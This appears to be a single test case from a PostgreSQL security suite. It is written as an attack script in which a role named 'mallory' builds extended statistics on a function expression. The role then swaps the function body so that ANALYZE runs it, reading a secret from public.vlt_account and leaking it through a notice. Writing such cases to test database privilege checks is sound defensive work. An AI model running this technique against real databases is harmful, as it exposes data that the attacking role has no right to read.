-- Lets ANALYZE evaluate extended statistics on an expression that reads the secret.
-- wants: read
-- attack:
CREATE FUNCTION f_idx(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$BEGIN RETURN $1; END$$;
INSERT INTO mallory_own SELECT 100 + g, 'x' || g FROM generate_series(1, 10) g;
CREATE STATISTICS mine_s ON (f_idx(v)) FROM mallory_own;
CREATE OR REPLACE FUNCTION f_idx(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN $1; END$$;
ANALYZE mallory_own;
